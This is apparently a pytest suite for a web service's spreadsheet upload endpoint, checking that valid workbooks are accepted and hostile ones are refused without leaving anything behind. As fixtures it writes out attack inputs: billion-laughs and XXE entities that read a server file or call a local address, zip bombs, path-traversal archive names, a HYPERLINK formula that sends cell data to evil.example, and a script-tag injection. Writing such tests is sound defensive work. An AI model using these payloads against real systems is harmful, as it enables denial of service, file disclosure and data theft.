"""Spreadsheets through /hand-in: good ones are taken, hostile ones are refused at once and leave nothing behind."""

import io
import re
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from collectors.ledger.sqlite import open_reader
from collectors.ledger.work import AddSource

HEAD = ["moment_id", "person_id", "date", "kind"]
ROW = ["m1", "klv-7", "1.3.2026", "success"]
LAUGHS = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{i} "&l{i - 1};&l{i - 1};">' for i in range(1, 30))


@pytest.fixture
def hr(pages):
    pages.ledger.writer.do(
        AddSource(
            name="hr", agency="KLV", key="hr", secret_hash="x", scopes=[], feeds=[], units=[], purpose="trial",
            dpia="D-1", cooperation="C-1",
        )
    )  # fmt: skip
    browser = pages.signed_in("klv-1", "hr")
    browser.headers["accept-language"] = "en"
    return browser


def workbook(*rows):
    book, out = openpyxl.Workbook(), io.BytesIO()
    for row in (HEAD, *rows):
        book.active.append(row)
    book.save(out)
    return out.getvalue()


def with_part(name, content):
    """A good workbook with one part replaced or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook(ROW))) as good,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bad,
    ):
        for part in good.namelist():
            if part != name:
                bad.writestr(part, good.read(part))
        bad.writestr(name, content)
    return out.getvalue()


def sheet(doctype, cell):
    """A first sheet whose cell holds an entity."""
    row = "".join(f'<c t="inlineStr"><is><t>{text}</t></is></c>' for text in (*HEAD[:3], cell))
    return f"""<?xml version="1.0"?><!DOCTYPE worksheet [{doctype}]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row>{row}</row></sheetData></worksheet>"""


def handed_in(browser, data, name="moments.xlsx"):
    fields = {"csrf": browser.csrf, "kind": "moments", "source": "hr"}
    answer = browser.post("/hand-in", data=fields, files={"file": (name, data)})
    assert answer.status_code == 303, answer.text
    where = answer.headers["location"]
    deadline = time.monotonic() + 20
    while "refresh" in (page := browser.get(where)).headers:
        assert time.monotonic() < deadline
        time.sleep(0.1)
    return where, page.text


@pytest.mark.parametrize("name", ["moments.xlsx", "moments.csv", "moments", "MOMENTS.XLSX"])
def test_a_spreadsheet_is_taken_whatever_it_is_called(pages, hr, name):
    where, page = handed_in(hr, workbook(ROW, ["m2", "klv-8", "2.3.2026", "failure"]), name)
    assert re.search("<dt>New</dt><dd>2</dd>", page)
    hr.post(where, data={"csrf": hr.csrf, "do": "confirm"})
    assert re.search("<dt>New</dt><dd>2</dd>", hr.get(where).text)


HOSTILE = {
    "texts that unpack to 40 MB": lambda: with_part("xl/sharedStrings.xml", b" " * (40 << 20)),
    "a sheet that unpacks to 600 MB": lambda: with_part("xl/worksheets/sheet1.xml", b" " * (600 << 20)),
    "many parts": lambda: many_parts(),
    "entities within entities": lambda: with_part("xl/worksheets/sheet1.xml", sheet(LAUGHS, "&l29;")),
    "entities in another part": lambda: with_part("xl/workbook.xml", sheet(LAUGHS, "&l29;")),
    "a file of the server": lambda: with_part(
        "xl/worksheets/sheet1.xml", sheet('<!ENTITY f SYSTEM "file:///proc/version">', "&f;")
    ),
    "an address": lambda: with_part(
        "xl/worksheets/sheet1.xml", sheet('<!ENTITY f SYSTEM "http://127.0.0.1:9/x">', "&f;")
    ),
    "macros": lambda: with_part("xl/vbaProject.bin", b"macro"),
    "half of it": lambda: workbook(ROW)[:1500],
    "an old one": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000,
    "a zip within": lambda: with_part("[Content_Types].xml", workbook(ROW)),
}


def many_parts():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for i in range(6_000):
            archive.writestr(f"xl/{i}.xml", "")
    return out.getvalue()


@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_ones_are_refused(pages, hr, hostile):
    pages.hand_ins.largest = 20_000_000
    data = hostile()
    began = time.monotonic()
    _, page = handed_in(hr, data)
    assert time.monotonic() - began < 15
    assert "The file cannot be taken" in page
    assert "Linux version" not in page
    assert list(pages.hand_ins.folder.iterdir()) == []
    assert open_reader(pages.ledger.folder).execute("select count(*) from statement").fetchone() == (0,)


def test_names_within_lead_nowhere(pages, hr, tmp_path):
    handed_in(hr, with_part("../../../evil.xml", b"x"))
    handed_in(hr, with_part("/evil.xml", b"x"))
    assert not list(tmp_path.rglob("evil.xml"))
    assert not Path("/evil.xml").exists()


def test_formulas_are_no_values_and_run_nowhere(pages, hr):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    where, page = handed_in(hr, workbook([evil, "klv-7", "1.3.2026", evil]))
    assert "evil.example" not in page
    assert "evil.example" not in hr.get(f"{where}/refusals.csv").text


def test_markup_in_cells(pages, hr):
    _, page = handed_in(hr, workbook(["m1", "<script>alert(1)</script>", "1.3.2026", "success"]))
    assert "<script>" not in page
